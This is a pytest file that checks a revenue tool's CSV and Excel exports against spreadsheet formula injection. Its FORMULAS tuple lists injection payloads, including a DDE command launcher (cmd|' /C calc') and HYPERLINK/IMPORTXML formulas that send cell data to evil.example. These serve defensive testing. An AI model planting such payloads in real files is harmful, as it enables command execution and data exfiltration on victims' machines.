"""Texts of the records never become formulas or links in a file that a spreadsheet opens."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from contextlib import closing
from datetime import date
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from starlette.testclient import TestClient

from revcompass.cli.main import run
from revcompass.desk.loading import load
from revcompass.words.comma import is_number

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    '=IMPORTXML("http://evil.example","//a")',
    '=1+1";=2+2',
    "\uff1d1+1",
    "\uff0b1+1",
)
LIVE = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.fixture(scope="module")
def spiked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A book whose ids, names, plans and a column's own name are formulas."""
    folder = tmp_path_factory.mktemp("spiked") / "book"
    folder.mkdir()
    heads = ("subscription_id", "account_id", "starts_on", "ends_on", "amount", "interval")
    with (folder / "s.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow((*heads, "currency", "plan", "=2+5", "n"))
        for number, text in enumerate(FORMULAS):
            first = (text, text, "2026-01-01", "", 100 + number, "month", "EUR")
            writer.writerow((*first, text, text, text))
    with (folder / "a.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("account_id", "name"), *((one, one) for one in FORMULAS)])
    sources = "".join(
        f'[[source]]\nname = "{table}"\ntable = "{table}"\nfiles = "{file}"\n'
        for table, file in (("subscriptions", "s.csv"), ("accounts", "a.csv"))
    )
    (folder / "revcompass.toml").write_text(
        f'[book]\ncurrency = "EUR"\nas_of = "2026-03-31"\n{sources}', encoding="utf-8"
    )
    load(folder, today=date(2026, 4, 1))
    return folder


@pytest.fixture
def visitor(spiked: Path, visit: Callable[[Path], TestClient]) -> Iterator[TestClient]:
    """A client of the served book."""
    with closing(visit(spiked)) as client:
        yield client


SLICES = ("plan", "name", "=2+5", "n")


def check_csv(text: str) -> set[str]:
    """Every cell of a file, none of which a spreadsheet would run."""
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    assert not [cell for cell in cells if cell.startswith(LIVE) and not is_number(cell)]
    return cells


def check_told(cells: set[str]) -> None:
    """The formulas are there, as texts."""
    kept = {cell.removeprefix("'").strip() for cell in cells}
    assert len(kept & {text.strip() for text in FORMULAS}) >= 8


@pytest.mark.parametrize("by", SLICES)
def test_downloads_as_csv(visitor: TestClient, by: str) -> None:
    check_told(check_csv(visitor.get("/export/mrr.csv", params={"by": by}).text))


@pytest.mark.parametrize("by", SLICES)
def test_downloads_as_workbook(visitor: TestClient, by: str) -> None:
    answer = visitor.get("/export/mrr.xlsx", params={"by": by})
    assert answer.status_code == 200
    sheet = openpyxl.load_workbook(BytesIO(answer.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    check_told({str(cell.value) for cell in cells})
    with ZipFile(BytesIO(answer.content)) as packed:
        parts = b"".join(packed.read(name) for name in packed.namelist())
    assert b"<f>" not in parts
    assert b"evil.example" not in b"".join(
        line for line in parts.splitlines() if b"relationship" in line.lower() and b"Target" in line
    )


def test_cohorts(visitor: TestClient) -> None:
    check_csv(visitor.get("/export/cohorts.csv").text)


@pytest.mark.parametrize("by", SLICES)
def test_the_command_lines_csv(spiked: Path, capsys: pytest.CaptureFixture[str], by: str) -> None:
    assert run(["show", "mrr", "--by", by, "--csv", "--book", str(spiked)]) == 0
    check_told(check_csv(capsys.readouterr().out))


def test_the_command_lines_records(spiked: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["trace", "mrr", "--period", "2026-03", "--csv", "--book", str(spiked)]) == 0
    check_told(check_csv(capsys.readouterr().out))
